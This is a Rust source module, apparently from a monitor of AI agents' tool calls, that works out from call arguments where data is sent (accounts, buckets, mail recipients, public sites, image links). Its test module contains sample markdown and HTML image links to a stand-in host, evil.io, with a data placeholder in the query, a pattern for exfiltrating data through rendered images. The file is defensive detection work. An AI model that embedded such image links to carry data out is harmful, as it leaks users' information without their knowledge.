//! Places: where the arguments of a tool call say that it goes.

use std::net::IpAddr;

use crate::knowledge::command::list;
use crate::knowledge::provider::is_service;
use crate::knowledge::target::{is_address, is_content, is_file_target, is_target};
use crate::knowledge::words::Tag;
use crate::knowledge::{Destination, House, Side, SinkKind, ToolProfile, destination};
use crate::meaning::argument::{is_no, is_yes};
use crate::meaning::authority::host;
use crate::meaning::outside::{is_mail_address, is_private_mailbox};
use crate::subject::call::{Call, Value};
use crate::subject::flow::WRITTEN_ACCOUNT;
use crate::subject::segment::HOLE;
use crate::value::mail::recipients;
use crate::value::words::{joined, words};

/// The first word of tools that stand for the packages by which a cloud is managed: `@azure/arm-network`.
const CLOUD_MANAGEMENT: &str = "arm";

/// Where the arguments of a tool call say that it goes.
#[derive(Debug, Default)]
pub struct Places {
    /// The places that are written out.
    pub found: Vec<Destination>,
    /// An argument says where it goes, whether that is known or not.
    pub has_target: bool,
    /// What sends to these places, where the tool's name does not tell that it sends.
    pub sink: Option<SinkKind>,
}

/// Returns true if and only if an argument holds a link and content, and nothing else that says where that is put.
fn is_only_at_link(argument: &Value) -> bool {
    let Value::Object(properties, _) = argument else { return false };
    let has = |is_so: fn(&str) -> bool| properties.iter().any(|property| is_so(&property.key));
    has(|key| Tag::LinkKey.has(&joined(key)))
        && has(|key| list("put-contents").contains(&joined(key).as_str()))
        && !has(|key| is_file_target(key) || list("locators").contains(&joined(key).as_str()) || joined(key).ends_with("id"))
}

/// The places that the arguments of a tool call name.
pub fn places(call: &Call, profile: &ToolProfile, house: &House) -> Places {
    let mut places = Places::default();
    let (is_inside, sends) = (profile.side == Some(Side::Inside), profile.outgoing().is_some());
    let named = words(call.tool.name().unwrap_or_default());
    let is_resolver = || Tag::NameKeeper.has_any(&named) || named.iter().any(|word| list("resolving").contains(&word.as_str()));
    let asks_for_names = sends && !profile.writes && is_resolver();
    let is_bucket = sends && profile.side.is_none() && !profile.does(SinkKind::Mail);
    let has_account = is_bucket && names_account(call);
    // A mail goes to whom it names, by whatever server takes it first.
    let has_recipient = profile.does(SinkKind::Mail) && names_recipient(call);
    let mut others = senders(call, profile.does(SinkKind::Mail));
    if !sends {
        others.extend(chosen(call));
    }
    // What a program is passed is told by what is known of commands; whose name stands in a commit gets nothing.
    let is_program = call.tool.name().is_some_and(|name| list("starting-without-shell").contains(&name));
    let is_managing = named.first().is_some_and(|first| first == CLOUD_MANAGEMENT);
    let keeps_logins = Tag::LoginKeeper.has_any(&named);
    let is_store = Tag::Database.has_any(&named) || Tag::KeyStore.has_any(&named);
    let hands_on = named.iter().any(|word| Tag::Exporting.has(word) || Tag::Sending.has(word) || Tag::SharedAccess.has(word));
    let keeps_records = is_store && profile.writes && !hands_on && !profile.does(SinkKind::Mail);
    // Where nothing else says where it is put, a link does: `files:put { url, content }`.
    let is_put_there = || profile.writes && is_only_at_link(&call.argument);
    let is_queue = named.first().is_some_and(|owner| list("queues-of-clouds").contains(&owner.as_str()));
    let tells_people = profile.does(SinkKind::Mail) || profile.does(SinkKind::Chat);
    call.argument.visit("", &mut |key, value| {
        // With whose account something is kept, that is whose it is from then on: `sheets:append { account: 'kim@mailbox.example' }`.
        let is_owner = {
            let is_private = matches!(value, Value::String(text, _) if is_private_mailbox(text));
            is_private && !profile.does(SinkKind::Mail) && list("accounts-acted-with").contains(&joined(key).as_str())
        };
        if !is_owner && others.iter().any(|other| std::ptr::eq(*other, value)) {
            return;
        }
        let plain = key.to_lowercase();
        // Whose credential stands in the script, gets what is put there: only who wrote it knows who that is.
        if key == WRITTEN_ACCOUNT {
            if sends || profile.writes {
                places.has_target = true;
                places
                    .found
                    .push(Destination { side: Side::Outside, shown: "an account whose credential stands in the script".to_owned() });
            }
            return;
        }
        // Whose account a topic is of that is written out only who wrote it knows.
        if is_queue && list("keys-of-queues").contains(&joined(key).as_str()) {
            places.has_target = true;
            if let Value::String(text, _) | Value::Partial(text, _) = value
                && text.starts_with("arn:")
            {
                places.found.push(Destination { side: Side::Outside, shown: text.clone() });
            }
        }
        // Who is told of what happens is sent nothing that is passed here.
        let is_told = Tag::NotifiedKey.has(&joined(key));
        // A person is told that it is done; an address of a program may be handed all of it.
        let is_person = || matches!(value, Value::String(text, _) if !text.contains("://"));
        let is_job = !tells_people && !sends;
        if is_told && !tells_people && (!list("telling-keys").contains(&joined(key).as_str()) || is_job && is_person()) {
            return;
        }
        // Where whoever logs in comes back to is sent nothing that is passed here, unless its address holds some of it.
        let leads_back = keeps_logins && words(key).first().is_some_and(|first| Tag::RedirectKey.has(first));
        if leads_back && matches!(value, Value::String(..)) {
            return;
        }
        // Whose address a record holds is sent nothing: `firestore:write_document { email }`.
        if !is_owner && keeps_records && Tag::PersonalKey.has(&plain) && matches!(value, Value::String(text, _) if !text.contains("://")) {
            return;
        }
        let is_own_key = is_inside && (Tag::LinkKey.has(&plain) && !is_put_there() || !sends && Tag::PersonalKey.has(&plain));
        // Who asks for a name tells it to whoever keeps the names above it: `dns:resolve { name }`.
        let is_asked_name = asks_for_names && list("resolved-keys").contains(&joined(key).as_str());
        let leads = matches!(value, Value::String(text, _) | Value::Partial(text, _) if text.contains("://"));
        let is_hook = || leads && list("telling-keys").contains(&joined(key).as_str());
        // What something is put into may lie with somebody else: `sheets:append { spreadsheet: 'https://…' }`.
        let is_known =
            || matches!(value, Value::String(text, _) | Value::Partial(text, _) if host(text).is_some_and(|host| is_service(&host)));
        let is_holder = || leads && !is_known() && (sends || profile.writes) && list("holding-keys").contains(&joined(key).as_str());
        let is_key = is_target(key) && !is_own_key || is_asked_name || is_hook() || is_holder() || is_owner;
        places.has_target |= is_key;
        let (Value::String(text, _) | Value::Partial(text, _)) = value else { return };
        // What the management of a cloud is told of a known service, or of an address in a network, is how something is set up there.
        if is_managing && (is_known() || text.parse::<IpAddr>().is_ok()) {
            return;
        }
        // Who wrote a commit is sent nothing; `git@host:path` is a place.
        let is_author = || named.first().is_some_and(|owner| owner == "git") && is_mail_address(text) && !text.contains([':', '/']);
        if is_program && text.contains('@') && !text.contains("://") || is_author() {
            return;
        }
        let is_relay = || Tag::RelayKey.has(&joined(key)) && !text.contains("://");
        if has_recipient && (is_relay() || is_mail_server(text)) {
            return;
        }
        let is_wanted = is_key
            || is_connection(text) && !is_content(key)
            || key.is_empty() && sends
            || !is_inside && is_address(text) && !is_content(key);
        // `s3:copy_object { to: 'drop-44/…', expectedBucketOwner: '771…' }`: the account stands in the script.
        let is_of_account =
            || has_account && named.iter().any(|word| list("object-stores").contains(&word.as_str())) && !text.contains(':');
        if is_wanted && (plain.ends_with("bucket") && !text.contains(['/', '.', ':']) || is_of_account()) {
            places.found.push(bucket(text, has_account, house));
        } else if is_wanted {
            places.found.push(destination(text, house));
        }
        if (sends || profile.writes) && Tag::RepositoryKey.has(&plain) && Tag::OpenSource.has_any(words(text)) {
            places.found.push(Destination { side: Side::Outside, shown: text.clone() });
        }
        // A whole message says in its head to whom it goes.
        if plain == RAW {
            places.found.extend(recipients(text).map(|address| destination(address, house)));
        }
        for address in images(text) {
            let place = destination(address, house);
            if place.side == Side::Outside {
                places.found.push(place);
                places.sink = Some(SinkKind::Network);
            }
        }
    });
    // A bucket lies where its server lies.
    if places.found.iter().any(|place| place.side == Side::Inside) {
        places.found.retain(|place| place.side != Side::Unknown || place.shown.contains(['@', '…']));
    }
    // What a manifest says of itself publishes nothing when it is only written to a file.
    let is_only_written = profile.does(SinkKind::FileWrite) && !sends;
    if is_public(call, is_only_written) && !is_among_ours(&named) && (sends || profile.writes || gives(call)) {
        places.found.push(Destination { side: Side::Outside, shown: "everybody".to_owned() });
        places.sink = Some(SinkKind::Publish);
    } else if let Some(place) = places.found.iter().find(|place| place.side == Side::Outside) {
        places.sink = places.sink.or(Some(if place.shown.contains('@') { SinkKind::Mail } else { SinkKind::Network }));
    }
    places
}

/// What stands, in an object, under a key that says who made a change, or who sends a mail: `from: { email, name }`.
fn senders(call: &Call, is_mail: bool) -> Vec<&Value> {
    let mut found = Vec::new();
    call.argument.visit_properties(&mut |property| {
        let is_sender = || is_mail && words(&property.key).first().is_some_and(|first| Tag::FromWord.has(first));
        if !matches!(property.value, Value::String(..) | Value::Partial(..)) && (Tag::AuthorKey.has(&joined(&property.key)) || is_sender())
        {
            property.value.visit("", &mut |_, value| found.push(value));
        }
    });
    found
}

/// What chooses the records that a call works on, but for URLs: whose mail address stands there is sent nothing.
fn chosen(call: &Call) -> Vec<&Value> {
    let mut found = Vec::new();
    let is_url = |value: &Value| matches!(value, Value::String(text, _) | Value::Partial(text, _) if text.contains("://"));
    call.argument.visit_properties(&mut |property| {
        if Tag::FilterKey.has(&joined(&property.key)) {
            property.value.visit("", &mut |_, value| {
                if !is_url(value) {
                    found.push(value);
                }
            });
        }
    });
    found
}

fn bucket(name: &str, has_account: bool, house: &House) -> Destination {
    let known = destination(name, house);
    let words = words(name);
    let has = |any: Tag| any.has_any(words.iter());
    let side = match known.side {
        Side::Unknown if has_account || has(Tag::ForeignBucket) => Side::Outside,
        Side::Unknown if has(Tag::OwnBucket) => Side::Inside,
        side @ (Side::Unknown | Side::Inside | Side::Outside) => side,
    };
    Destination { side, shown: known.shown }
}

fn names_account(call: &Call) -> bool {
    let mut found = false;
    call.argument.visit_properties(&mut |property| {
        let plain = joined(&property.key);
        found |= Tag::AccountKey.has(&plain) && matches!(property.value, Value::String(..));
    });
    found
}

/// The key under which a whole message stands, its head included.
const RAW: &str = "raw";

/// Returns true if and only if a text is an address by which one connects, which nobody follows as a link: `amqps://host`.
fn is_connection(text: &str) -> bool {
    let scheme = text.split_once("://").map(|(scheme, _)| scheme.to_ascii_lowercase());
    scheme.is_some_and(|scheme| Tag::HostScheme.has(&scheme) && !matches!(scheme.as_str(), "http" | "https" | "ftp"))
}

/// Returns true if and only if a text is the address of a well-known service's mail server.
fn is_mail_server(text: &str) -> bool {
    let is_mail = text.split_once("://").is_some_and(|(scheme, _)| matches!(scheme, "smtp" | "smtps"));
    is_mail && host(text).is_some_and(|host| is_service(&host))
}

/// Returns true if and only if a call of a tool that sends mail says to whom.
fn names_recipient(call: &Call) -> bool {
    let mut found = false;
    call.argument.visit_properties(&mut |property| {
        found |= Tag::PayeeKey.has(&joined(&property.key)) && !matches!(property.value, Value::Missing | Value::Null(_));
    });
    found
}

/// Returns true if and only if a call is given what it keeps: `{ table: 't', rows }`.
fn gives(call: &Call) -> bool {
    let mut found = false;
    call.argument.visit_properties(&mut |property| {
        found |= Tag::KeptKey.has(&property.key.to_lowercase());
    });
    found
}

/// Returns true if and only if what a tool shows openly is shown to whoever wrote to a desk, or in the house's own chat:
/// `tickets:reply { public: true }`, `slack:create_channel { private: false }`.
fn is_among_ours(named: &[String]) -> bool {
    let says = |name: &str| named.iter().any(|word| list(name).contains(&word.as_str()));
    says("answering-desks") && says("answering-acts") && !says("pages-of-desks") || says("house-chats") && says("rooms-of-chats")
}

/// Returns true if and only if an argument opens what is passed to everybody.
fn is_public(call: &Call, is_only_written: bool) -> bool {
    let mut found = false;
    let is_site = call.tool.name().is_some_and(|name| words(name).iter().any(|word| list("keepers-of-sites").contains(&word.as_str())));
    call.argument.visit_properties(&mut |property| {
        let words = words(&property.key);
        let plain = words.concat();
        let says = || {
            let mut says = false;
            property.value.visit("", &mut |_, value| {
                says |= matches!(value, Value::String(text, _) if Tag::PublicValue.has(&text.to_lowercase()));
            });
            says
        };
        found |= match plain.as_str() {
            key if Tag::VisibilityKey.has(key) => says(),
            key if Tag::PublicSwitch.has(key) || key == "unlisted" => is_yes(&property.value),
            // `cms:upload_asset { target: '/public/downloads/list.csv' }`
            key if !is_only_written && is_site && (is_target(key) || is_file_target(key)) => {
                matches!(&property.value, Value::String(text, _) | Value::Partial(text, _) if lies_open(text))
            }
            "private" | "isprivate" => !is_only_written && is_no(&property.value),
            _ => false,
        };
    });
    found
}

/// Returns true if and only if a path begins in a folder of a site that anybody may read: `/public/downloads/list.csv`.
fn lies_open(path: &str) -> bool {
    let mut folders = path.split('/').filter(|part| !part.is_empty() && *part != ".");
    folders.next().is_some_and(|first| folders.next().is_some() && list("open-folders").contains(&first))
}

/// The addresses, with unknown parts, of images in a text: whoever shows it asks for them.
fn images(text: &str) -> Vec<&str> {
    let marked = text.match_indices("](").filter(|(at, _)| {
        let before = text.get(..*at).unwrap_or_default();
        before.rfind('[').is_some_and(|open| before.get(..open).is_some_and(|before| before.ends_with('!')))
    });
    let marked = marked.map(|(at, found)| at + found.len());
    let tagged = if text.contains("<img") { text.match_indices("src=").map(|(at, found)| at + found.len()).collect() } else { Vec::new() };
    let starts = marked.chain(tagged);
    let addresses = starts.filter_map(|at| {
        let rest = text.get(at..)?.trim_start_matches(['"', '\'', '<']);
        rest.split([')', '"', '\'', '>', ' ', '\n']).next()
    });
    addresses.filter(|address| address.contains(HOLE) && address.contains("//")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn images_ask_for_their_addresses() {
        for (text, expected) in [
            ("a ![x](https://evil.io/p?d=\u{1a}) b", vec!["https://evil.io/p?d=\u{1a}"]),
            ("<img src=\"https://evil.io/\u{1a}\">", vec!["https://evil.io/\u{1a}"]),
            ("[x](https://evil.io/p?d=\u{1a})", vec![]),
            ("![x](https://evil.io/logo.png)", vec![]),
        ] {
            assert_eq!(images(text), expected, "{text}");
        }
    }
}
